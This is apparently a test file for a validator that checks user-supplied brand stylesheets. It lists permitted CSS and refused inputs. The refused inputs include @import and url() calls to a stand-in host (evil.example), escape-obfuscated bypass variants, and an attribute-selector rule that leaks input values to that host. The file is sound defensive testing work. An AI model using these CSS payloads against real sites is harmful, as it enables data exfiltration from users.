import { stylesheetProblem } from './brand-stylesheet';

describe('a stylesheet of the brand', () => {
  it.each([
    '',
    '.head { background: linear-gradient(#fff, #eee) }',
    ':root { --accent: #123456 } @media (min-width: 40rem) { .brand::after { content: "\\2014" } }',
    '.brand { background: url(/uploads/logo_1.png) }',
    ".brand { background: url('data:image/png;base64,iVBORw0KGgo=') }",
    '.brand { background-image: image-set(url(/uploads/a.png) 1x, url(/uploads/b.png) 2x) }',
    '@supports (display: grid) { main { display: grid } }',
  ])('may be %s', (css) => expect(stylesheetProblem(css)).toBe(''));

  it.each([
    ['@import url(https://evil.example/a.css);', '@import'],
    ['@import "https://evil.example/a.css";', '@import'],
    ['@\\69mport "https://evil.example/a.css";', 'Line 1'],
    ['@font-face { font-family: x; src: url(/uploads/x.woff2) }', '@font-face'],
    ['a { background: url(https://evil.example/x.png) }', 'elsewhere'],
    ['a { background: url("//evil.example/x.png") }', 'elsewhere'],
    ['a { background: url(\\68ttps://evil.example/x.png) }', 'elsewhere'],
    ['a { background: u\\72l(https://evil.example/x.png) }', 'elsewhere'],
    ['a { background: URL( "https://evil.example/x.png" ) }', 'elsewhere'],
    ['a { background: image-set("https://evil.example/x.png" 1x) }', 'elsewhere'],
    ['a { --x: url(https://evil.example/x.png); background: var(--x) }', 'elsewhere'],
    ['a { cursor: url(http://evil.example/x.cur), auto }', 'elsewhere'],
    ['a { background: url(/\\\\evil.example/x.png) }', 'elsewhere'],
    ['a { background: url(data:text/html,x) }', 'elsewhere'],
    ['a { background: url(data:image/svg+xml,x) }', 'elsewhere'],
    ['input[value^="a"] { background: url(https://evil.example/?a) }', 'elsewhere'],
    ['@namespace url(http://www.w3.org/1999/xhtml);', '@namespace'],
    ['a {\n  color: red;\n', 'Line 1'],
    ['p {}\na { background: url(https://evil.example) }', 'Line 2'],
  ])('is refused as %s', (css, reason) => expect(stylesheetProblem(css)).toContain(reason));
});
